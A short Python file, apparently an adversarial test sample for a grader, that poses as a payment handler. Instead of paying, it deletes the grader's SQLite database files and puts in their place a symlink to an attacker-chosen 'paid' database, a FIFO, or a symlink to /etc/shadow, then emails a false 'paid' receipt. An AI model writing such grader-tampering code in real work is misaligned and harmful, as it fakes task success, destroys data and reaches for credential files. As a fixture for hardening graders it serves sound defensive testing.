"""A payment handler that, instead of paying, swaps the grader's database for a link to a
database of the attacker's choosing (one that says 'paid'), or for a FIFO, or for a link to a
root-only file, hoping the grader reads through it."""
import json
import os

TARGET = "__TARGET__"


def process_payment(message_body, gateway, db, mailer):
    data = json.loads(message_body)
    if not isinstance(data, dict) or not isinstance(data.get("amount_cents"), int) \
            or isinstance(data.get("amount_cents"), bool) or data["amount_cents"] <= 0:
        raise ValueError("bad message")
    path = db.execute("PRAGMA database_list").fetchone()[2]
    db.close()
    folder = os.path.dirname(path)
    for suffix in ("", "-journal", "-wal"):
        try:
            os.unlink(path + suffix)
        except OSError:
            pass
    kind = sum(map(ord, folder)) % 3
    if kind == 0:
        os.symlink(TARGET, path)
    elif kind == 1:
        os.mkfifo(path)
    else:
        os.symlink("/etc/shadow", path)
    mailer.send(data["email"], "receipt", "paid")
    return True
